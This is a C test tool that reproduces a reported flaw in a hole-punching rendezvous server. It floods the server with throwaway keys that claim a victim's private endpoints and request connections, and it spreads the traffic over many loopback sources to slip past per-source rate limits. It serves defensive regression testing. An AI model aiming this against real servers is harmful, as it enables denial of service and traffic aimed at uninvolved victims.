/* SPDX-License-Identifier: MIT */
/*
 * The attacker of issue 12 (findings 2 and 3), for tests only: from one
 * UDP socket (or S sockets on 127.1.0.1, 127.1.0.2, ...: N/S keys each, so
 * punchd's limits per source let every key through), N fresh keys each
 * register at punchd claiming the given private endpoints (a victim's),
 * CONNECT to TARGET once, and never answer anything after. Its names are
 * silentK-RUN, RUN random per run. A request that gets no answer in 500 ms
 * is sent again, twice at most. Prints on stdout what it sent:
 *   sent BYTES bytes in DATAGRAMS datagrams for N keys
 * and on stderr, when the first CONNECT went (realtime ms):
 *   first CONNECT at MS
 * With SILENT_HALFWAY=FILE it creates FILE once half the keys asked (to
 * start a legitimate peer in the middle of the burst).
 * Exit 0 when every key registered and asked, 1 otherwise.
 *
 *   silent_peers SERVER_IP:PORT TARGET N[/S] [PRIVATE_IP:PORT]...
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <sodium.h>

#include "crypto/auth.h"
#include "crypto/identity.h"
#include "io/net.h"
#include "wire/msg.h"

#define MAX_SOURCES 1024
#define TRIES 3

typedef struct attacker {
    int fd;                    /* the current key's socket */
    int fds[MAX_SOURCES];
    unsigned n_sources;
    punch_addr server;
    uint64_t bytes, datagrams;
    uint32_t run;              /* in the names: a name never comes back with another key */
    size_t n_private;
    punch_addr priv[PUNCH_MSG_MAX_PRIVATE];
} attacker;

/* Encode m (MAC'd with mac_key when its type has one) and send it. */
static int send_msg(attacker *at, punch_msg *m, const uint8_t *mac_key)
{
    uint8_t buf[1500];
    size_t len;
    if (punch_msg_encode(m, buf, sizeof(buf), &len) != 0)
        return -1;
    if (punch_msg_has_mac(m->type))
        punch_auth_mac(mac_key, buf, len - PUNCH_MSG_MAC_LEN, buf + len - PUNCH_MSG_MAC_LEN);
    struct sockaddr_storage ss;
    socklen_t sl = punch_addr_to_sockaddr(&at->server, &ss);
    if (sendto(at->fd, buf, len, 0, (struct sockaddr *)&ss, sl) != (ssize_t)len)
        return -1;
    at->bytes += len;
    at->datagrams++;
    return 0;
}

/* Wait (up to the socket's timeout) for an answer of this type and txid;
 * a REFUSED of it ends the wait at once. Returns 0, -1 (no answer), -2
 * (refused). */
static int await(attacker *at, punch_msg_type type, const uint8_t *txid, punch_msg *out,
                 uint8_t *buf, size_t cap)
{
    for (;;) {
        ssize_t n = recv(at->fd, buf, cap, 0);
        if (n < 0)
            return -1;
        if (punch_msg_decode(buf, (size_t)n, out) != 0 ||
            memcmp(out->txid, txid, PUNCH_MSG_TXID_LEN) != 0)
            continue; /* a probe of the target, an INTRODUCE, an older answer */
        if (out->type == type)
            return 0;
        if (out->type == PUNCH_MSG_REFUSED)
            return -2;
    }
}

/* Send m and wait for its answer, TRIES times at most (punchd drops what
 * is over a rate limit without a word: a lost request is not a refusal). */
static int ask(attacker *at, punch_msg *m, const uint8_t *mac_key, punch_msg_type type,
               punch_msg *in, uint8_t *buf, size_t cap)
{
    for (int t = 0; t < TRIES; t++) {
        if (send_msg(at, m, mac_key) != 0)
            return -1;
        int rc = await(at, type, m->txid, in, buf, cap);
        if (rc != -1)
            return rc;
    }
    fprintf(stderr, "silent_peers: no answer to a request of type %d\n", (int)m->type);
    return -1;
}

/* One key: HELLO, REGISTER with the claimed endpoints, CONNECT target. */
static int one_key(attacker *at, unsigned k, const char *target)
{
    uint8_t secret[PUNCH_KEY_LEN], mac_key[PUNCH_AUTH_KEY_LEN], buf[1500];
    punch_identity id;
    randombytes_buf(secret, sizeof(secret));
    if (punch_identity_from_secret(&id, secret) != 0)
        return -1;
    punch_msg m = {.type = PUNCH_MSG_HELLO}, in;
    randombytes_buf(m.txid, sizeof(m.txid));
    if (ask(at, &m, NULL, PUNCH_MSG_COOKIE, &in, buf, sizeof(buf)) != 0)
        return -1;
    if (punch_auth_derive(&id, in.key, mac_key) != 0)
        return -1;
    m = (punch_msg){.type = PUNCH_MSG_REGISTER, .n_private = at->n_private};
    randombytes_buf(m.txid, sizeof(m.txid));
    memcpy(m.cookie, in.cookie, PUNCH_MSG_COOKIE_LEN);
    memcpy(m.key, id.public_key, PUNCH_KEY_BYTES);
    snprintf(m.name, sizeof(m.name), "silent%u-%08x", k, at->run);
    memcpy(m.private_addr, at->priv, at->n_private * sizeof(punch_addr));
    if (ask(at, &m, mac_key, PUNCH_MSG_REGISTERED, &in, buf, sizeof(buf)) != 0)
        return -1;
    m = (punch_msg){.type = PUNCH_MSG_CONNECT};
    randombytes_buf(m.txid, sizeof(m.txid));
    memcpy(m.key, id.public_key, PUNCH_KEY_BYTES);
    snprintf(m.name, sizeof(m.name), "%s", target);
    return send_msg(at, &m, mac_key);
}

static uint64_t realtime_ms(void)
{
    struct timeval tv;
    gettimeofday(&tv, NULL);
    return (uint64_t)tv.tv_sec * 1000 + (uint64_t)tv.tv_usec / 1000;
}

static void mark(const char *path)
{
    FILE *f = fopen(path, "w");
    if (f)
        fclose(f);
}

/* Source s: the first one any address, the others 127.1.0.1 and up. */
static int open_source(attacker *at, unsigned s)
{
    int fd = socket(at->server.family == PUNCH_AF_INET6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {.tv_usec = 500000};
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) != 0)
        return -1;
    if (at->n_sources > 1) {
        punch_addr a = {.family = PUNCH_AF_INET, .ip = {127, 1, (uint8_t)((s + 1) >> 8),
                                                        (uint8_t)(s + 1)}};
        struct sockaddr_storage ss;
        socklen_t sl = punch_addr_to_sockaddr(&a, &ss);
        if (bind(fd, (struct sockaddr *)&ss, sl) != 0)
            return -1;
    }
    at->fds[s] = fd;
    return 0;
}

int main(int argc, char **argv)
{
    attacker at = {0};
    if (argc < 4 || sodium_init() < 0 || punch_addr_parse(argv[1], 3478, &at.server) != 0) {
        fprintf(stderr, "usage: silent_peers SERVER_IP:PORT TARGET N[/S] [PRIVATE_IP:PORT]...\n");
        return 2;
    }
    char *slash;
    unsigned n = (unsigned)strtoul(argv[3], &slash, 10);
    at.n_sources = *slash == '/' ? (unsigned)strtoul(slash + 1, NULL, 10) : 1;
    if (at.n_sources == 0 || at.n_sources > MAX_SOURCES) {
        fprintf(stderr, "silent_peers: '%s': from 1 to %d sources\n", argv[3], MAX_SOURCES);
        return 2;
    }
    at.run = randombytes_random();
    for (int i = 4; i < argc && at.n_private < PUNCH_MSG_MAX_PRIVATE; i++)
        if (punch_addr_parse(argv[i], 0, &at.priv[at.n_private++]) != 0) {
            fprintf(stderr, "silent_peers: '%s' is not an IP:PORT\n", argv[i]);
            return 2;
        }
    for (unsigned s = 0; s < at.n_sources; s++)
        if (open_source(&at, s) != 0) {
            perror("silent_peers: socket");
            return 1;
        }
    unsigned done = 0;
    const char *halfway = getenv("SILENT_HALFWAY");
    for (unsigned k = 0; k < n; k++) {
        at.fd = at.fds[k % at.n_sources];
        done += one_key(&at, k, argv[2]) == 0;
        if (k == 0)
            fprintf(stderr, "first CONNECT at %llu\n", (unsigned long long)realtime_ms());
        if (k == n / 2 && halfway)
            mark(halfway);
    }
    printf("sent %llu bytes in %llu datagrams for %u keys\n", (unsigned long long)at.bytes,
           (unsigned long long)at.datagrams, done);
    for (unsigned s = 0; s < at.n_sources; s++)
        close(at.fds[s]); /* silent from now on: nothing it is sent is answered */
    return done == n ? 0 : 1;
}
